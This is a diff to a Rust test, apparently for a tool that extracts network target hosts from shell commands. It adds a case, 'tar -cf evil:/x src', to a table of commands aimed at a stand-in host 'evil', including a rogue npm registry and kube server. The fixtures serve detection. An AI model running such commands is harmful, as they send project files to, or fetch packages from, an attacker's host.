@@ -370,6 +370,7 @@ fn files_that_only_an_option_or_a_script_names_are_read_and_written() {
         ("kubectl --server=https://evil get pods", "https://evil"),
         ("https_proxy=http://evil:1 curl https://h", "http://evil:1"),
         ("npm install --registry=https://evil", "https://evil"),
+        ("tar -cf evil:/x src", "evil"),
     ] {
         assert!(shows(&first(text).targets).contains(&host.to_owned()), "{text}");
     }
